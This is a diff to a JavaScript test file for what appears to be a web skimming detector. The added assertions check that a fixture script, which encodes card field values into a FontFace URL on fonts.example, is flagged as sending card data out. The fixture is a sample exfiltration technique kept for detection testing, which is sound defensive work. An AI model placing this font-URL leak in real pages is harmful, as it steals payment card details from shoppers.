@@ -172,6 +172,10 @@ describe('sends the first look cannot name', () => {
         var face = new FontFace('x', 'url(https://fonts.example/f/' + btoa(f.value) + '.woff2)')
         face.load().then(function (l) { document.fonts.add(l) }) })`
     expect(points(font)).toBe(60)
+    // and the font's address is where the card goes
+    const sent = analyzeScript(font).findings.map((f) => f.message)
+    expect(sent).toContain('reads card fields and sends them out via image')
+    expect(sent.join('\n')).toContain('https://fonts.example/f/')
     // a brand font from a fixed address carries nothing typed
     expect(points(font.replace("' + btoa(f.value) + '", 'brand'))).toBeUndefined()
     // markup showing a typed value beside an icon's url() is a preview, not a request for it
